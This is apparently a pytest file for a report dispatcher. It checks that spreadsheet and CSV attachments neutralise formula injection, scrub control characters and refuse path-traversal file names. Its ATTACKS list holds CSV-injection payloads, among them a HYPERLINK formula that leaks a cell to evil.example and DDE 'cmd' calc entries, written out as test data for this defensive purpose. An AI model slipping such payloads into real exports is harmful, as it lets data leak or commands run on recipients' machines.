"""Attachments are data, never code or paths: formula-like cells stay text, control characters are
cleaned, a name rendered at run time is checked as validate checks it, and a file that cannot be
built leaves the run partial with its text message delivered (real SQLite, the sandbox over HTTP)."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from dispatcher.cli.main import main
from dispatcher.run.services import Services
from dispatcher.sandbox import Sandbox, SandboxOptions
from tests import feature_kit
from tests.conftest import make_shop_db
from tests.feature_kit import SANDBOX_APP, retry_at, run_at

AT = "2026-11-28T10:00+08:00"
FIRE = datetime(2026, 11, 28, 1, 0, tzinfo=UTC)  # 09:00 in Shanghai
# Each would run, or be read as a formula, if a spreadsheet took it for one.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width sign: some CJK versions of Excel read it as "="
]
PLAIN = ["safe", "-5", "a=b", "1+1"]


def _cells_db(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE cells (id INTEGER, txt TEXT, num REAL)")
    values = [*ATTACKS, *PLAIN]
    conn.executemany("INSERT INTO cells VALUES (?, ?, ?)", [(i, v, -5.5 - i) for i, v in enumerate(values)])
    conn.commit()
    conn.close()


def _attach_project(project: Path, fmt: str, name: str, sql: str) -> Path:
    path = project / "reports.yaml"
    extra = f"    attach:\n      format: {fmt}\n      name: {name!r}\n      sql: {sql!r}\n"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
    _cells_db(project / "shop.db")
    return path


CELLS_SQL = 'SELECT id, txt, num, txt AS "=HYPERLINK(1)" FROM cells ORDER BY id'


def test_xlsx_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(
    project: Path, tmp_path: Path
) -> None:
    path = _attach_project(project, "xlsx", "cells.xlsx", CELLS_SQL)
    out = tmp_path / "out"
    assert main(["preview", "daily", "-c", str(path), "--at", AT, "--out", str(out)]) == 0
    sheet = openpyxl.load_workbook(out / "cells.xlsx").active
    header, *rows = list(sheet.iter_rows())
    assert [(c.value, c.data_type) for c in header][3] == ("=HYPERLINK(1)", "s")
    expected = [v.replace("\r", "\n") for v in [*ATTACKS, *PLAIN]]  # XML reads a CR back as LF
    assert [(r[1].value, r[1].data_type) for r in rows] == [(v, "s") for v in expected]
    assert [r[3].data_type for r in rows] == ["s"] * len(rows), "no cell of any column is a formula"
    assert all(r[1].quotePrefix for r in rows[: len(ATTACKS)]), "editing the cell keeps it text"
    assert [(r[2].value, r[2].data_type) for r in rows] == [(-5.5 - i, "n") for i in range(len(rows))]
    assert [(r[0].value, r[0].data_type) for r in rows][:2] == [(0, "n"), (1, "n")]


def test_csv_cells_that_start_like_a_formula_get_a_quote_and_numbers_stay_numbers(
    project: Path, tmp_path: Path
) -> None:
    path = _attach_project(project, "csv", "cells.zip", CELLS_SQL)
    out = tmp_path / "out"
    assert main(["preview", "daily", "-c", str(path), "--at", AT, "--out", str(out)]) == 0
    with zipfile.ZipFile(out / "cells.zip") as archive:
        assert archive.namelist() == ["cells.csv"]
        text = archive.read("cells.csv").decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["id", "txt", "num", "'=HYPERLINK(1)"]
    assert [r[1] for r in rows] == [f"'{v}" for v in ATTACKS] + PLAIN
    assert [r[3] for r in rows] == [r[1] for r in rows]
    assert [float(r[2]) for r in rows] == [-5.5 - i for i in range(len(rows))], "negative numbers unquoted"


CONTROL = (
    "SELECT 'a' || char(0) || 'b' || char(7) || char(27) || char(127) || 'c' AS nul, 'ok' || char(9) AS tab"
)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_control_characters_in_cells_are_replaced_and_the_file_is_built(
    project: Path, tmp_path: Path, fmt: str
) -> None:
    name = f"ctl.{'xlsx' if fmt == 'xlsx' else 'zip'}"
    path = _attach_project(project, fmt, name, CONTROL)
    out = tmp_path / "out"
    assert main(["preview", "daily", "-c", str(path), "--at", AT, "--out", str(out)]) == 0
    if fmt == "xlsx":
        rows = list(openpyxl.load_workbook(out / name).active.iter_rows(values_only=True))
    else:
        with zipfile.ZipFile(out / name) as archive:
            rows = [tuple(r) for r in csv.reader(io.StringIO(archive.read("ctl.csv").decode("utf-8-sig")))]
    assert rows[1] == ("a\ufffdb\ufffd\ufffd\ufffdc", "ok\t"), "tabs stay; other controls become U+FFFD"


# Validate renders names at a sample fire time in January 2026; these turn bad from June 2026 on.
LATER = "{{ %r if today > '2026-06-01' else 'ok' }}"


@pytest.mark.parametrize(
    ("fmt", "target"),
    [("xlsx", "ABS/escaped.xlsx"), ("xlsx", "../escaped.xlsx"), ("csv", "ABS/escaped.zip")],
)
def test_a_name_that_turns_into_a_path_at_run_time_is_refused_and_nothing_is_written_outside(
    project: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    request: pytest.FixtureRequest,
    fmt: str,
    target: str,
) -> None:
    outside = Path(tempfile.mkdtemp(prefix="esc", dir="/tmp"))  # short: a name template has 120 characters
    request.addfinalizer(lambda: shutil.rmtree(outside))
    target = target.replace("ABS", str(outside))
    suffix = ".xlsx" if fmt == "xlsx" else ".zip"
    name = (LATER % target.removesuffix(suffix)) + suffix
    path = _attach_project(project, fmt, name, "SELECT 1 AS n")
    assert main(["validate", "-c", str(path)]) == 0
    out = tmp_path / "out" / "look"
    code = main(["preview", "daily", "-c", str(path), "--at", AT, "--out", str(out)])
    printed = capsys.readouterr()
    assert code == 1
    assert "must be a file name, not a path" in printed.out + printed.err
    assert "Traceback" not in printed.err
    assert sorted(p.name for p in outside.iterdir()) == []
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["look"]
    assert sorted(p.name for p in out.iterdir()) == ["01-markdown.json"], "the message, without a file"


CONFIG = (
    SANDBOX_APP
    + """\
  leads: {{userids: [manager4974, "0147282552401293909"]}}
reports:
  nul:
    title: 控制字符
    schedule: "0 9 * * *"
    source: shop
    sql: "SELECT region, SUM(amount) AS sales FROM orders GROUP BY region ORDER BY region"
    to: [leads]
    retry_delay: 1s
    attach: {{format: xlsx, name: nul.xlsx, sql: "SELECT 'a' || char(0) || 'b' AS name, 1 AS n"}}
  broken:
    title: 附件坏了
    schedule: "0 9 * * *"
    source: shop
    sql: "SELECT region, SUM(amount) AS sales FROM orders GROUP BY region ORDER BY region"
    to: [leads]
    retry_delay: 1s
    attach: {{format: csv, name: broken.zip, sql: "SELECT * FROM no_such_table"}}
  moving:
    title: 名字会变
    schedule: "0 9 * * *"
    source: shop
    sql: "SELECT region, SUM(amount) AS sales FROM orders GROUP BY region ORDER BY region"
    to: [leads]
    retry_delay: 1s
    attach: {{format: xlsx, name: "{{{{ '/tmp/moving' if today > '2026-06-01' else 'ok' }}}}.xlsx"}}
  extreme:
    title: 极端值
    schedule: "0 9 * * *"
    source: shop
    sql: "SELECT region, SUM(amount) AS sales FROM orders GROUP BY region ORDER BY region"
    to: [leads]
    retries: 0
    chart: {{x: region, y: [sales], sql: "SELECT 'a' AS region, 1e308 AS sales UNION ALL SELECT 'b', -1e308"}}
"""
)


@pytest.fixture
def services(tmp_path: Path) -> Iterator[tuple[Services, Sandbox]]:
    with Sandbox(SandboxOptions()) as sandbox:
        (tmp_path / "reports.yaml").write_text(CONFIG.format(api_base=sandbox.url), encoding="utf-8")
        make_shop_db(tmp_path / "shop.db")
        with feature_kit.services(tmp_path / "reports.yaml", sandbox) as svc:
            yield svc, sandbox


def _run(svc: Services, report_id: str) -> str:
    return run_at(svc, report_id, FIRE)


def _retry(svc: Services, report_id: str) -> str:
    return retry_at(svc, report_id)


def _inbox(sandbox: Sandbox) -> list[str]:
    return sorted(m["msgtype"] for m in sandbox.messages("manager4974"))


def test_a_nul_in_a_cell_no_longer_fails_the_run_the_file_arrives_cleaned(
    services: tuple[Services, Sandbox],
) -> None:
    svc, sandbox = services
    assert _run(svc, "nul") == "sent"
    assert _inbox(sandbox) == ["file", "markdown"]
    [upload] = [c for c in sandbox.calls("media_upload") if c["errcode"] == 0]
    assert upload["body"]["media"]["filename"] == "nul.xlsx"


@pytest.mark.parametrize(
    ("report_id", "why"),
    [("broken", "no such table: no_such_table"), ("moving", "must be a file name, not a path")],
)
def test_an_attachment_that_cannot_be_built_leaves_the_run_partial_with_its_message_delivered(
    services: tuple[Services, Sandbox], report_id: str, why: str
) -> None:
    svc, sandbox = services
    assert _run(svc, report_id) == "partial"
    assert _inbox(sandbox) == ["markdown"], "the text went out; no file"
    assert sandbox.calls("media_upload") == []
    [history] = svc.ledger.history(report_id)
    [refused] = history.batches["refused"]
    assert (refused["unit"], refused["recipients"]) == ("part:file", 2)
    assert why in refused["message"] and why in (history.error or "")
    assert "internal error" not in (history.error or "")

    assert _retry(svc, report_id) == "partial", "the same data fails the same way"
    assert _inbox(sandbox) == ["markdown"], "the retry did not send the text again"


def test_a_run_whose_chart_cannot_be_drawn_fails_with_report_and_column_named_not_an_internal_error(
    services: tuple[Services, Sandbox],
) -> None:
    svc, sandbox = services
    assert _run(svc, "extreme") == "failed"
    [history] = svc.ledger.history("extreme")
    assert "report 'extreme': chart: chart.y column 'sales' holds 1e+308 at row 1" in (history.error or "")
    assert "internal error" not in (history.error or "")
    assert sandbox.calls("asyncsend_v2") == []


def test_dispatcher_send_of_a_report_whose_file_cannot_be_built_delivers_the_text_and_exits_1(
    project: Path, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _attach_project(project, "csv", "rows.zip", "SELECT * FROM no_such_table")
    opts = sandbox.options
    env = {"TEST_DT_KEY": opts.app_key, "TEST_DT_SECRET": opts.app_secret,
           "TEST_DT_AGENT": str(opts.agent_id), "DINGTALK_API_BASE": sandbox.url}  # fmt: skip
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    assert main(["send", "daily", "-c", str(path), "--at", AT]) == 1
    out = capsys.readouterr().out
    assert "warning    report 'daily': attachment not built:" in out and "no_such_table" in out
    assert "Traceback" not in out
    assert sorted(m["msgtype"] for m in sandbox.messages("manager4974")) == ["markdown"]
    assert sandbox.calls("media_upload") == []


@pytest.fixture(params=["postgres", "mysql"])
def server_url(request: pytest.FixtureRequest) -> str:
    return str(request.getfixturevalue(f"{request.param}_url"))


def test_formula_text_from_postgres_and_mariadb_stays_text_and_decimals_stay_numbers(server_url: str) -> None:
    import sqlalchemy as sa

    from dispatcher.render.attach import build_attachment
    from dispatcher.sources.query import Sources, SourceSpec, run_query

    engine = sa.create_engine(server_url)
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE TABLE cells (id INTEGER, txt VARCHAR(100), amount DECIMAL(10, 2))")
        conn.exec_driver_sql(
            "INSERT INTO cells VALUES "
            "(1, '=HYPERLINK(\"http://evil.example\",\"x\")', -5.50), (2, '@SUM(1)', 3)"
        )
    engine.dispose()
    sources = Sources({"db": SourceSpec("db", server_url)})
    try:
        frame = run_query(sources, "db", "SELECT * FROM cells ORDER BY id", {}, max_rows=10, timeout=10).frame
    finally:
        sources.dispose()
    book = build_attachment(frame, "xlsx", "c.xlsx", FIRE).data
    rows = list(openpyxl.load_workbook(io.BytesIO(book)).active.iter_rows())[1:]
    assert [(r[1].value, r[1].data_type) for r in rows] == [
        ('=HYPERLINK("http://evil.example","x")', "s"), ("@SUM(1)", "s"),
    ]  # fmt: skip
    assert [(r[2].value, r[2].data_type) for r in rows] == [(-5.5, "n"), (3, "n")]
    with zipfile.ZipFile(io.BytesIO(build_attachment(frame, "csv", "c.zip", FIRE).data)) as archive:
        text = archive.read("c.csv").decode("utf-8-sig")
    _, *lines = list(csv.reader(io.StringIO(text, newline="")))
    assert [(r[1], float(r[2])) for r in lines] == [
        ("'=HYPERLINK(\"http://evil.example\",\"x\")", -5.5), ("'@SUM(1)", 3.0),
    ]  # fmt: skip
